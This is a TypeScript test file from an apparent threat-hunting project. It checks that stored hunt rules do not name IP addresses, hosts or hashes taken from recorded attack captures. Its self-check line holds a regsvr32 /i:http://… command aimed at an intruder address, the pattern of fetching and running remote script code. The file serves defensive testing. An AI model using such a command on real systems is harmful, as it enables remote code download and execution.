// No hunt was written to fit a capture: nothing below hunts/ names an address, a host, a user, a hash or a file of one.
import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { expect, it } from 'vitest';
import { describeCaptures } from '../rig/live.ts';
import { captureFiles, readLines } from '../rig/load-captures.ts';
import { CAPTURES, FILES_OF_ATTACKS } from '../campaigns/evaluate/attacks.ts';

const HUNTS = fileURLToPath(new URL('../../hunts', import.meta.url));

/** Fields that name what a capture alone has. */
const FIELDS =
  /"(?:ip|resolved_ip|address|hostname|computer_name|md5|sha1|sha256|imphash)": ?(?:"([^"]+)"|\[([^\]]*)\])|"host": ?\{"name": ?"([^"]+)"/g;

/** What is no capture's own: unspecified, loopback, broadcast, and the groups that everybody asks. */
const EVERYBODYS =
  /^(?:0\.0\.0\.0|127\..*|255\.255\.255\.255|2(?:2[4-9]|3\d)\..*|::1?|0:0:0:0:0:0:0:[01]|ff0.*|localhost|-|)$/;

describeCaptures('the stored hunts', [], (_servers, folder) => {
  it('name no address, host, hash or file of a capture', { timeout: 60_000 }, async () => {
    const names = new Set(FILES_OF_ATTACKS);
    for (const file of await captureFiles(folder))
      for (const line of await readLines(join(folder, file))) for (const name of namesIn(line)) names.add(name);
    expect(names.size).toBeGreaterThan(500);
    const hits: string[] = [];
    for (const file of await readdir(HUNTS, { recursive: true })) {
      if (!/\.(?:yml|ndjson)$/.test(file)) continue;
      const text = (await readFile(join(HUNTS, file), 'utf8')).toLowerCase();
      hits.push(...namedIn(text, names).map((word) => `${file}: ${word}`));
    }
    expect(hits).toEqual([]);
    const [address = '', file = ''] = [CAPTURES[0]?.intruder[0], FILES_OF_ATTACKS[0]];
    expect(namedIn(`regsvr32 /i:http://${address}:8444/${file}.`, names)).toEqual([address, file]);
  });
});

/** Those of the names that a text holds as whole words, with a port or a full stop behind them as well. */
function namedIn(text: string, names: ReadonlySet<string>): readonly string[] {
  const words = text.match(/[\w.:-]+/g) ?? [];
  const parts = words.flatMap((word) => [word, ...word.split(':')]).map((word) => word.replace(/[.:-]+$/, ''));
  return [...new Set(parts)].filter((word) => names.has(word));
}

/** Words as a file holds them: lower case, without a domain for hosts. */
function namesIn(line: string): readonly string[] {
  return [...line.matchAll(FIELDS)]
    .flatMap(([, one, many, host]) => [
      one,
      host,
      ...(many?.split(',').map((each) => each.replaceAll(/[" ]/g, '')) ?? []),
    ])
    .filter((name) => name !== undefined)
    .map((name) => name.toLowerCase())
    .filter((name) => !EVERYBODYS.test(name));
}
